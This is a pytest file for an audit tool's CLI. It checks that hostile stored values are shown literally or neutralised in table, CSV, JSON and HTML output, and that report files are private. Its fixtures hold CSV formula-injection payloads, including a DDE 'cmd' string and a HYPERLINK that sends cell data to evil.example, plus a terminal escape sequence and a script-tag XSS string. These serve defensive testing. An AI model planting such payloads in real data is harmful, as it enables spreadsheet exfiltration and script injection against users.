"""Output shows what is stored: hostile stored values through every CLI format (docs/reports.md).

User ids, model names, versions, labels and error messages are user data. Through the CLI on a
real chDB store: rich markup and emoji codes stay literal in tables, CSV formula cells are
neutralised, JSON parses strictly with non-finite numbers, HTML escapes ``<script>``, and
``--out`` files are ``0600`` under a permissive umask.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import math
import os
import random
import stat
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from answer_seed import Prediction, insert_predictions, make_prediction
from typer.testing import CliRunner

from otel_audit.cli import app
from otel_audit.store.connect import Store

USER = "alice[admin]"
MODEL = "fraud[/]model"
VERSION = ":smile: [bold]v2[/bold]"
ERROR_TYPE = "-1+cmd|' /C calc'!A0"
ERROR_MESSAGE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LABEL = "@SUM(A1)"
ESCAPE_LABEL = "ok\x1b[2J"  # a terminal "clear screen" sequence
SCRIPT = "<script>alert(1)</script>"


def _invoke(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, list(args))
    # A traceback would leave its exception here (not SystemExit) and a non-zero exit code.
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.stdout, result.stderr


def _cells(table: str) -> list[list[str]]:
    """The stripped cells of each body line of rich table output."""
    lines = [line.replace("┃", "│") for line in table.splitlines()]
    return [[cell.strip() for cell in line.split("│")[1:-1]] for line in lines if "│" in line]


def _strict_loads(text: str) -> Any:
    """json.loads that refuses NaN/Infinity tokens, as a strict parser does."""

    def refuse(token: str) -> None:
        raise ValueError(f"not JSON: {token}")

    return json.loads(text, parse_constant=refuse)


@pytest.fixture
def hostile(store: Store, store_dsn: str) -> str:
    """The DSN of a store holding predictions whose stored values look like markup, formulas and scripts."""
    rng = random.Random(11)

    def stored(index: int, **facts: Any) -> Prediction:
        ok = {"outcome": "ok", "error_type": "", "error_message": ""}
        return dataclasses.replace(make_prediction(rng, index), model=MODEL, user=USER, **{**ok, **facts})

    predictions = [
        stored(0, version=VERSION, request_id="req-error", outcome="error", error_type=ERROR_TYPE,
               error_message=ERROR_MESSAGE, label="", output={}, input={"note": SCRIPT}),
        stored(1, version=VERSION, label=LABEL),
        # Non-finite latencies are stored as they came: the reports' figures become NaN/Infinity.
        stored(2, version="v1", label=ESCAPE_LABEL, latency_ms=math.nan),
        stored(3, version="v1", label=LABEL, latency_ms=math.inf),
    ]  # fmt: skip
    insert_predictions(store, predictions)
    return store_dsn


class TestTableOutput:
    def test_markup_in_stored_values_is_literal(self, hostile: str) -> None:
        """A user id `alice[admin]`, a model with `[/]` and `:smile:` show as stored, with no traceback."""
        code, out, err = _invoke("report", "data-access", "--user", USER, "--store", hostile)
        assert code == 0, err
        cells = _cells(out)
        assert ["user_id", USER] in cells and [f"models_used.{MODEL}", "4"] in cells
        assert any(row[2:4] == [MODEL, VERSION] for row in cells)
        assert "😄" not in out

    def test_every_summary_key_and_value_is_literal(self, hostile: str) -> None:
        """Count-map keys (versions, labels) keep their brackets and emoji codes in the summary table."""
        code, out, err = _invoke("report", "model-usage", "--model", MODEL, "--store", hostile)
        assert code == 0, err
        cells = _cells(out)
        assert [f"versions_used.{VERSION}", "2"] in cells and [f"prediction_distribution.{LABEL}", "2"] in cells
        assert "otel-audit report: model-usage" in out

    def test_control_characters_are_shown_escaped(self, hostile: str) -> None:
        """A stored terminal escape sequence is printed as `\\x1b`, never sent to the terminal."""
        code, out, _ = _invoke("report", "model-usage", "--model", MODEL, "--store", hostile)
        assert code == 0
        assert ["prediction_distribution.ok\\x1b[2J", "1"] in _cells(out) and "\x1b" not in out

    def test_query_columns_and_cells_are_literal(self, hostile: str) -> None:
        """`otel-audit query` shows column names and values with markup as they are."""
        sql = (
            "SELECT UserId AS `[red]who[/red]`, ModelVersion AS v FROM audit_predictions "
            "WHERE UserId = 'alice[admin]' ORDER BY v DESC"
        )
        code, out, err = _invoke("query", sql, "--store", hostile)
        assert code == 0, err
        cells = _cells(out)
        assert cells[0] == ["[red]who[/red]", "v"] and [USER, VERSION] in cells

    def test_long_values_fold_instead_of_being_cut(self, hostile: str) -> None:
        """A value wider than its column keeps every character (folded onto more lines), not an ellipsis."""
        sql = "SELECT repeat('0123456789', 40) AS a, repeat('x', 300) AS b"
        code, out, _ = _invoke("query", sql, "--store", hostile)
        assert code == 0 and "…" not in out
        assert "".join(row[0] for row in _cells(out)[1:]) == "0123456789" * 40


class TestCsvOutput:
    def test_formula_cells_are_neutralised(self, hostile: str) -> None:
        """Stored text starting with `=`, `-` or `@` gets a leading `'`; other text is unchanged."""
        code, out, err = _invoke("report", "request", "req-error", "--store", hostile, "-f", "csv")
        assert code == 0, err
        (row,) = list(csv.DictReader(io.StringIO(out)))
        assert row["error_message"] == "'" + ERROR_MESSAGE
        assert row["error_type"] == "'" + ERROR_TYPE
        assert row["user_id"] == USER and row["model"] == MODEL and row["version"] == VERSION

    def test_every_trigger_and_numbers_left_alone(self, hostile: str) -> None:
        """Each trigger is neutralised in text and column names; numbers stay numbers; a bare CR stays in its field."""
        sql = (
            "SELECT '=1+2' AS a, '+1' AS b, '-1+cmd' AS c, '@x' AS d, '\\tx' AS e, '\\rx' AS f, "
            "-3.5 AS g, -7 AS h, toDecimal32(-1.5, 2) AS i, -inf AS j, 'plain' AS k, '-1' AS l, 1 AS `=col`, "
            "'a\\rb' AS m"
        )
        code, out, err = _invoke("query", sql, "--store", hostile, "-f", "csv")
        assert code == 0, err
        header, row = [r for r in csv.reader(io.StringIO(out)) if r]
        assert header[-2] == "'=col"
        assert row == ["'=1+2", "'+1", "'-1+cmd", "'@x", "'\tx", "'\rx", "-3.5", "-7", "-1.50", "-Infinity",
                       "plain", "'-1", "1", "a\rb"]  # fmt: skip

    def test_stored_label_in_query_csv(self, hostile: str) -> None:
        """A stored `@SUM(A1)` label read through `otel-audit query -f csv` is neutralised too."""
        code, out, _ = _invoke("query", "SELECT OutputLabel FROM audit_predictions ORDER BY OutputLabel", "--store",
                               hostile, "-f", "csv")  # fmt: skip
        assert code == 0
        assert ["'" + LABEL] in list(csv.reader(io.StringIO(out)))


class TestJsonOutput:
    def test_report_with_non_finite_numbers_is_strict_json(self, hostile: str) -> None:
        """Stored NaN/Infinity latencies come out as the strings "NaN"/"Infinity", which a strict parser reads."""
        code, out, err = _invoke("report", "model-usage", "--model", MODEL, "--store", hostile, "-f", "json")
        assert code == 0, err
        report = _strict_loads(out)
        assert report["latency_ms"]["max"] == "Infinity"
        assert report["latency_ms"]["mean"] == "NaN"
        assert report["versions_used"] == {VERSION: 2, "v1": 2}

    def test_query_json_is_strict(self, hostile: str) -> None:
        """`otel-audit query -f json` encodes non-finite numbers as strings, nested ones too, and decimals exactly."""
        sql = "SELECT nan AS a, inf AS b, -inf AS c, [1.5, -inf] AS d, map('k', nan) AS e, toDecimal64(-1.50, 2) AS f"
        code, out, err = _invoke("query", sql, "--store", hostile, "-f", "json")
        assert code == 0, err
        assert _strict_loads(out) == [
            {"a": "NaN", "b": "Infinity", "c": "-Infinity", "d": [1.5, "-Infinity"], "e": {"k": "NaN"}, "f": "-1.50"}
        ]

    def test_uuid_and_addresses_do_not_crash(self, hostile: str) -> None:
        """Types JSON lacks (UUID, IPv4) are written as strings, not a traceback."""
        sql = "SELECT toUUID('3c33cba1-1a0f-4a32-afc9-fe8b011e72fb') AS u, toIPv4('10.0.0.1') AS ip"
        code, out, err = _invoke("query", sql, "--store", hostile, "-f", "json")
        assert code == 0, err
        assert _strict_loads(out) == [{"u": "3c33cba1-1a0f-4a32-afc9-fe8b011e72fb", "ip": "10.0.0.1"}]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


class TestHtmlOutput:
    def test_stored_script_is_escaped(self, hostile: str) -> None:
        """A stored `<script>` in an input and in a user id is text in the HTML page, never a tag."""
        code, page, err = _invoke("report", "request", "req-error", "--store", hostile, "-f", "html")
        assert code == 0, err
        parser = _Tags()
        parser.feed(page)
        assert "script" not in parser.tags and "<script>" not in page
        assert SCRIPT in "".join(parser.text) and USER in "".join(parser.text)

    def test_non_finite_numbers_are_named(self, hostile: str) -> None:
        """The HTML summary shows NaN and Infinity by name rather than an empty cell."""
        code, page, _ = _invoke("report", "model-usage", "--model", MODEL, "--store", hostile, "-f", "html")
        assert code == 0
        assert '<td class="num">NaN</td>' in page and '<td class="num">Infinity</td>' in page


@pytest.fixture
def open_umask() -> Iterator[None]:
    """Run the test under umask 0o022 (files 0644 by default), then restore the previous umask."""
    previous = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(previous)


@pytest.mark.usefixtures("open_umask")
class TestOutFiles:
    @pytest.mark.parametrize("fmt", ["html", "csv", "json", "table"])
    def test_report_out_is_private(self, hostile: str, tmp_path: Path, fmt: str) -> None:
        """`report … --out FILE` creates FILE 0600 whatever the umask."""
        out = tmp_path / f"outcomes.{fmt}"
        code, _, err = _invoke("report", "outcomes", "--store", hostile, "-f", fmt, "--out", str(out))
        assert code == 0, err
        assert stat.S_IMODE(out.stat().st_mode) == 0o600 and out.read_text(encoding="utf-8")

    def test_existing_out_file_is_tightened(self, hostile: str, tmp_path: Path) -> None:
        """An existing world-readable report file is rewritten and left 0600."""
        out = tmp_path / "compliance.html"
        out.write_text("STALE-CONTENT")
        out.chmod(0o644)
        code, _, err = _invoke("report", "compliance", "--model", MODEL, "--store", hostile, "--out", str(out))
        assert code == 0, err
        assert stat.S_IMODE(out.stat().st_mode) == 0o600 and "STALE-CONTENT" not in out.read_text(encoding="utf-8")

    def test_out_through_a_symlink_is_refused(self, hostile: str, tmp_path: Path) -> None:
        """--out naming a symbolic link is a one-line error, and the link's target is untouched."""
        target = tmp_path / "target"
        target.write_text("keep")
        link = tmp_path / "report.html"
        link.symlink_to(target)
        code, _, err = _invoke("report", "outcomes", "--store", hostile, "--out", str(link))
        assert code == 2 and "cannot write" in err and len(err.strip().splitlines()) == 1
        assert target.read_text() == "keep"

    def test_collector_config_out_is_private(self, tmp_path: Path) -> None:
        """`collector-config --out FILE` creates FILE 0600 too."""
        out = tmp_path / "collector.yaml"
        code, _, err = _invoke("collector-config", "--out", str(out))
        assert code == 0, err
        assert stat.S_IMODE(out.stat().st_mode) == 0o600 and "processors" in out.read_text(encoding="utf-8")
